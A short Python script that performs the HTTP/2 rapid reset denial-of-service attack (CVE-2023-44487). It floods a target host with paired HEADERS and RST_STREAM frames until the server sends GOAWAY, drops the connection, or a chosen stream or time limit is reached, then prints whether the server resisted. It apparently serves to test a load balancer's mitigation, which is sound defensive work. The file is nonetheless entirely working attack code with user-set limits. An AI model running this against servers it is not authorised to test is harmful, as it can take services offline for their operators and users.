"""HTTP/2 rapid reset (CVE-2023-44487) with the h2 library on a raw socket:
HEADERS then RST_STREAM, stream after stream, until the server sends GOAWAY
or closes the connection, or `limit` streams or `seconds` pass. Prints one
JSON line: streams sent, whether a GOAWAY came (and its error code), and
whether the connection was closed.

usage: rapid_reset.py HOST PORT LIMIT SECONDS
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events


def main():
    host, port, limit, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=5)
    sock.setblocking(False)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "lb")]
    sent, goaway, code, closed = 0, False, None, False
    started = time.monotonic()
    while sent < limit and time.monotonic() - started < seconds and not (goaway or closed):
        stream = conn.get_next_available_stream_id()
        try:
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream)
        except h2.exceptions.ProtocolError:
            break
        sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (BlockingIOError, BrokenPipeError, ConnectionResetError):
            closed = True
        while True:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                break
            except ConnectionResetError:
                closed = True
                break
            if not data:
                closed = True
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway, code = True, int(event.error_code)
            try:
                sock.sendall(conn.data_to_send())
            except (BlockingIOError, BrokenPipeError, ConnectionResetError):
                pass
    print(json.dumps({"streams": sent, "goaway": goaway, "error_code": code, "closed": closed,
                      "seconds": round(time.monotonic() - started, 3)}))


main()
